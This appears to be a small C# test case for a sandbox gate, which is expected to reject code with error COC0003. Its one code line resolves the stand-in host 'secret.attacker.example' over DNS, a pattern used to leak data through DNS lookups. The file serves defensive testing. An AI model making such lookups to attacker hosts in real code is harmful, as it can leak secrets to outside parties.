// class: network
// expected: rejected COC0003
// why: dns addresses; the gate refuses it (COC0003) before anything runs.
var a = await System.Net.Dns.GetHostAddressesAsync("secret.attacker.example");
return 0;
